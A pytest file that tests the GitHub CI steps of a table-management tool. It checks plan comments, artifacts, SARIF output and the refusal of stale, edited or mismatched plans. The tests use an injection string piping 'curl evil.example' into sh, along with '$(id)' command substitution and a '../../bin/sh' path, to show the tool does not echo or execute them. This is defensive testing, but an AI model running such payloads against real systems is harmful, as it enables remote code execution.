"""The steps run by hand: pull request, merge, schedule."""

from __future__ import annotations

import json
import shutil
import sys
from pathlib import Path

import pytest

import tablectl
from tablectl.ci.__main__ import main
from tests.ci.conftest import FakeGitHub, Runner
from tests.cli.conftest import FakeSpark, Repository
from tests.cli.log_lake import Logged, set_property

COMMIT, HEAD = "c" * 40, "a" * 40
EVIL = 'x"; curl evil.example | sh #`$(id)`\n::add-mask::*'


@pytest.fixture
def orders(repo: Repository) -> Path:
    table = repo.table("orders", properties={"owner.team": "web"})
    repo.policies({"orders": "{properties: {owner.team: pay}}"})
    return table


def pull_request(runner: Runner, number: int = 5) -> dict[str, str]:
    """A plan on a pull request whose author wrote what he liked; its outputs."""
    head = {"ref": EVIL, "sha": HEAD, "repo": {"full_name": EVIL}}
    runner.event(pull_request={"number": number, "title": EVIL, "body": EVIL, "head": head})
    _, outputs = runner.step("plan")
    return outputs


def keep(github: FakeGitHub, outputs: dict[str, str], store: Path, run: int = 10) -> None:
    """What upload-artifact does."""
    shutil.copytree(outputs["folder"], store / str(run))
    github.kept(outputs["artifact"], run=run, head=HEAD)


def fetch(runner: Runner, store: Path, **inputs: object) -> tuple[int, dict[str, str]]:
    """The step that finds the plan, and what download-artifact does."""
    code, outputs = runner.step("find", **inputs)
    if code == 0:
        shutil.copytree(store / outputs["run"], outputs["folder"], dirs_exist_ok=True)
    return code, outputs


def test_a_pull_request_gets_a_comment_a_page_an_artifact_and_annotations(
    runner: Runner, github: FakeGitHub, orders: Path
) -> None:
    outputs = pull_request(runner)
    assert outputs["exit-code"] == "0"
    assert outputs["changes"] == "true"
    assert outputs["artifact"] == "tablectl-plan-pr-5"
    assert sorted(file.name for file in Path(outputs["folder"]).iterdir()) == [
        "plan.html",
        "plan.json",
        "plan.md",
        "plan.sarif",
    ]
    report = Path(outputs["report"]).read_text()
    assert report.startswith("**🟡 Plan: Changes pending** · 1 table to change")
    assert runner.summary.strip() == report.strip()
    (result,) = json.loads(Path(outputs["sarif"]).read_text())["runs"][0]["results"]
    assert result["locations"][0]["physicalLocation"]["artifactLocation"]["uri"] == "policies/lake.yaml"

    code, commented = runner.step("comment", report=outputs["report"])
    assert (code, commented["comment"]) == (0, "https://github.example/c/101")
    assert github.comments[5][0]["body"] == report

    (Path("policies") / "lake.yaml").write_text("version: 1\ntables: {}\n")
    runner.step("comment", report=pull_request(runner)["report"])
    (comment,) = github.comments[5]
    assert comment["body"].startswith("**✅ Plan: ")
    assert EVIL.partition(" ")[0] not in json.dumps([runner.log, outputs, github.asked])


def test_what_was_reviewed_is_applied_when_it_is_merged(
    runner: Runner, github: FakeGitHub, fake_spark: FakeSpark, orders: Path, tmp_path: Path
) -> None:
    keep(github, pull_request(runner), tmp_path)
    github.merged(5, head=HEAD, commit=COMMIT)
    runner.event(ref="refs/heads/main")
    code, found = fetch(runner, tmp_path)
    assert (code, found["artifact"], found["pull-request"]) == (0, "tablectl-plan-pr-5", "5")
    code, applied = runner.step("apply")
    assert code == 0
    assert Logged(orders).properties == {"owner.team": "pay"}
    assert runner.summary.count("**✅ Apply: ") == 1
    runner.step("comment", mode="apply", report=applied["report"], pull_request=found["pull-request"])
    assert github.comments[5][0]["body"].startswith("**✅ Apply: ")

    assert runner.step("apply")[0] == 0, "the job run again finds all of it done"
    assert len(fake_spark.sent) == 1


def test_a_stale_plan_is_refused_in_words_that_say_what_to_do(
    runner: Runner, github: FakeGitHub, fake_spark: FakeSpark, orders: Path, tmp_path: Path
) -> None:
    keep(github, pull_request(runner), tmp_path)
    github.merged(5, head=HEAD, commit=COMMIT)
    set_property(orders, "owner.team", "somebody else")
    fetch(runner, tmp_path)
    code, applied = runner.step("apply")
    assert code == 3
    assert applied["exit-code"] == "3"
    assert fake_spark.sent == []
    assert "stale, left alone" in runner.summary
    assert "run this workflow by hand" in runner.log

    runner.event()
    _, outputs = runner.step("plan")
    assert outputs["artifact"] == "tablectl-plan"
    keep(github, outputs, tmp_path, run=11)
    assert fetch(runner, tmp_path, plan_run=11)[0] == 0
    assert runner.step("apply")[0] == 0
    assert Logged(orders).properties == {"owner.team": "pay"}


def test_a_plan_of_other_policies_than_those_merged_is_refused(
    runner: Runner, github: FakeGitHub, fake_spark: FakeSpark, repo: Repository, orders: Path, tmp_path: Path
) -> None:
    keep(github, pull_request(runner), tmp_path)
    github.merged(5, head=HEAD, commit=COMMIT)
    repo.policies({"orders": "{properties: {owner.team: both}}"})
    fetch(runner, tmp_path)
    code, _ = runner.step("apply")
    assert code == 3
    assert fake_spark.engines == []
    assert "another change was merged in between" in runner.log
    assert "What to do: plan again and apply that plan" in runner.log.replace("%0A", "\n")


def test_a_plan_of_an_environment_is_applied_in_it(
    runner: Runner, github: FakeGitHub, repo: Repository, orders: Path, tmp_path: Path
) -> None:
    (repo.root / "tablectl.yaml").write_text("env: {dev: {variables: {TEAM: dev}}, prod: {variables: {TEAM: pay}}}\n")
    repo.policies({"orders": '{properties: {owner.team: "${TEAM}"}}'})
    runner.environ["INPUT_NAME"] = "lake-prod"
    outputs = runner.step("plan", arguments="--env=prod")[1]
    assert (outputs["exit-code"], "apply will refuse this plan" in runner.log) == ("0", False)
    keep(github, outputs, tmp_path)
    assert fetch(runner, tmp_path, plan_run=10)[0] == 0
    assert runner.step("apply", arguments="--env=dev")[0] == 3
    assert "the plan is for the environment prod, not for dev" in runner.summary
    assert runner.step("apply")[0] == 0
    assert Logged(orders).properties == {"owner.team": "pay"}


def test_what_is_wrong_in_an_environment_is_at_its_line(runner: Runner, repo: Repository, orders: Path) -> None:
    (repo.root / "tablectl.yaml").write_text("env: {prod: {variables: {TEAM: pay}}}\n")
    repo.policies({"orders": '{properties: {owner.team: "${TEAM}", note: "${X}"}}'})
    outputs = runner.step("plan", arguments="--env=prod")[1]
    text = Path(outputs["sarif"]).read_text()
    assert ("variable X" in text, "variable TEAM" in text) == (True, False)
    assert runner.step("plan", arguments="--env\nqa")[1]["sarif"] == ""


def test_a_plan_that_was_edited_is_refused(
    runner: Runner, github: FakeGitHub, fake_spark: FakeSpark, orders: Path, tmp_path: Path
) -> None:
    keep(github, pull_request(runner), tmp_path)
    file = tmp_path / "10" / "plan.json"
    file.write_text(file.read_text().replace('"pay"', '"mallory"'))
    (tmp_path / "10" / "run.md").write_text("**✅ Apply: Applied and verified**")
    github.merged(5, head=HEAD, commit=COMMIT)
    fetch(runner, tmp_path)
    code, _ = runner.step("apply")
    assert code == 3
    assert "edited or damaged" in runner.log
    assert "Applied and verified" not in runner.summary
    assert fake_spark.engines == []


def test_no_plan_no_apply(runner: Runner, orders: Path) -> None:
    code, outputs = runner.step("find")
    assert (code, outputs) == (3, {})
    assert "no pull request was merged as cccccccccc" in runner.log
    assert "run this workflow by hand" in runner.summary


def test_a_run_that_came_to_no_plan(
    runner: Runner, github: FakeGitHub, repo: Repository, orders: Path, tmp_path: Path
) -> None:
    """It kept its report, and was merged all the same."""
    repo.policies("version: 1\ntables: {a: {}}\n")
    keep(github, pull_request(runner), tmp_path)
    github.merged(5, head=HEAD, commit=COMMIT)
    assert fetch(runner, tmp_path)[0] == 0
    code, _ = runner.step("apply")
    assert code == 3
    assert "made a report and no plan" in runner.log
    assert "run this workflow by hand" in runner.log


def test_two_applies_that_race_meet_the_lease(
    runner: Runner, github: FakeGitHub, fake_spark: FakeSpark, orders: Path, tmp_path: Path
) -> None:
    """Both find the same plan; the second comes while the first one's statement runs."""
    keep(github, pull_request(runner), tmp_path)
    github.merged(5, head=HEAD, commit=COMMIT)
    Path("tablectl.yaml").write_text("window: {ttl: 10}\n")
    fetch(runner, tmp_path)
    second: list[int] = []

    def meanwhile(_sql: str) -> None:
        if not second:
            second.append(-1)
            second[0] = tablectl.apply(plan).exit_code

    plan = Path(runner.environ["RUNNER_TEMP"]) / "tablectl" / "plan.json"
    fake_spark.after = meanwhile
    assert runner.step("apply")[0] == 0
    assert second == [4]
    assert len(fake_spark.sent) == 1


def test_policies_that_are_wrong_become_a_comment_and_annotations(
    runner: Runner, repo: Repository, github: FakeGitHub
) -> None:
    repo.policies("version: 1\ntables:\n  lake.a.b: {clusterin: ['@acme ``` <img>']}\n")
    outputs = pull_request(runner)
    assert outputs["exit-code"] == "1"
    assert outputs["changes"] == "false"
    body = Path(outputs["report"]).read_text()
    assert body.startswith("**⛔ Plan: failed**\n\n```text\nerror: policies/lake.yaml:3:")
    assert "did you mean `clustering`?" in body
    assert body.endswith("```\n\n<!-- tablectl plan -->\n")
    (result,) = json.loads(Path(outputs["sarif"]).read_text())["runs"][0]["results"]
    assert result["ruleId"] == "invalid"
    assert result["locations"][0]["physicalLocation"]["region"]["startLine"] == 3


def test_a_refusal_fails_the_job_and_its_plan_can_be_read(runner: Runner, repo: Repository) -> None:
    repo.table("day", partitions=["day"])
    repo.policies({"day": "{clustering: [id]}"})
    runner.event(pull_request={"number": 5})
    code, outputs = runner.step("plan")
    assert code == 3
    assert Path(outputs["folder"], "plan.json").exists()


def test_a_plan_that_is_too_large_leaves_nothing_to_apply(runner: Runner, orders: Path) -> None:
    code, outputs = runner.step("plan", arguments="--max-tables=0")
    assert code == 3
    assert not Path(outputs["folder"], "plan.json").exists()
    assert Path(outputs["report"]).exists()


def test_a_comment_that_cannot_be_written_is_a_warning(runner: Runner, github: FakeGitHub, orders: Path) -> None:
    outputs = pull_request(runner)
    github.fail = [403]
    assert runner.step("comment", report=outputs["report"]) == (0, {})
    assert runner.log.startswith("::warning title=tablectl::no comment could be written: GET issues/5/comments")
    assert "pull-requests: write" in runner.log


def test_without_a_pull_request_there_is_no_comment(runner: Runner, github: FakeGitHub, orders: Path) -> None:
    runner.event(schedule="17 5 * * *")
    _, outputs = runner.step("plan")
    assert outputs["artifact"] == "tablectl-plan"
    assert runner.step("comment", report=outputs["report"]) == (0, {})
    assert github.asked == []


def test_values_given_as_arguments_are_warned_of(runner: Runner, repo: Repository) -> None:
    repo.table("orders")
    repo.policies("version: 1\ntables:\n  delta.`${LAKE}/orders`: {isolation: Serializable}\n")
    runner.environ["TABLECTL_VAR_LAKE"] = "/elsewhere"
    assert runner.step("plan", arguments=f"--var=LAKE={repo.lake}")[0] == 0
    assert "apply will refuse this plan" in runner.log
    assert "TABLECTL_VAR_" in runner.log


def test_drift_fails_the_job_and_says_what_to_do(runner: Runner, orders: Path) -> None:
    code, outputs = runner.step("drift")
    assert (code, outputs["exit-code"], outputs["changes"]) == (2, "2", "true")
    assert runner.summary.startswith("**🟡 Drift: ")
    assert "drift --adopt" in runner.log
    assert json.loads(Path(outputs["sarif"]).read_text())["runs"][0]["results"]
    set_property(orders, "owner.team", "pay")
    assert runner.step("drift")[0] == 0


def test_the_command_line_of_the_steps(monkeypatch: pytest.MonkeyPatch, capsys: pytest.CaptureFixture[str]) -> None:
    assert main([]) == 64
    assert main(["../../bin/sh"]) == 64
    assert "plan|comment|find|apply|drift" in capsys.readouterr().err
    monkeypatch.setenv("INPUT_NAME", "$(id)")
    assert main(["plan"]) == 64
    assert "is no name for an artifact" in capsys.readouterr().out
    assert sys.argv
